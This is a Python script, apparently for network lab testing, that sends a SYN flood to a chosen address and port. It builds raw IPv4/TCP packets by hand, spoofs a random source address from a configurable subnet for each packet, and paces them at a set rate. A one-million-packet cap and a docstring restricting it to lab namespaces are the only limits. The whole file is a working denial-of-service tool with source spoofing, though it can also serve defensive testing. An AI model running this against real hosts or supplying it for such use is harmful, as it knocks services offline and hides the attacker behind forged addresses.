#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""SYN flood for the lab: COUNT IPv4 TCP SYNs to ADDR:PORT, each from a
random source address of --src-net and a random source port, paced at
--rate per second (bounded in count and time). Raw socket: root, and run
it only inside a lab namespace.

    synflood.py ADDR PORT --count N --rate R [--src-net 198.18.128.0/17]
                [--seed S]
    -> {"sent", "seconds", "sources"}  (sources: distinct addresses)
"""
import argparse
import ipaddress
import json
import random
import socket
import struct
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
                      64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp),
                     random.getrandbits(16), 0x4000, 64, socket.IPPROTO_TCP,
                     0, src, dst)
    return ip + tcp


def main():
    p = argparse.ArgumentParser()
    p.add_argument("addr")
    p.add_argument("port", type=int)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--rate", type=int, required=True)
    p.add_argument("--src-net", default="198.18.128.0/17")
    p.add_argument("--seed", type=int, default=1)
    a = p.parse_args()
    if a.count > 1000000 or a.rate <= 0:
        raise SystemExit("count at most 1000000, rate > 0")
    random.seed(a.seed)
    net = ipaddress.ip_network(a.src_net)
    dst = socket.inet_aton(a.addr)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    t0 = time.monotonic()
    seen = set()
    sent = 0
    batch = max(1, a.rate // 100)		# 100 batches a second
    while sent < a.count:
        for _ in range(min(batch, a.count - sent)):
            src = int(net.network_address) + random.randrange(net.num_addresses)
            seen.add(src)
            pkt = syn(struct.pack("!I", src), dst, random.randint(1024, 65535),
                      a.port, random.getrandbits(32))
            s.sendto(pkt, (a.addr, 0))
            sent += 1
        ahead = t0 + sent / a.rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - t0, 3),
                      "sources": len(seen)}))


if __name__ == "__main__":
    main()
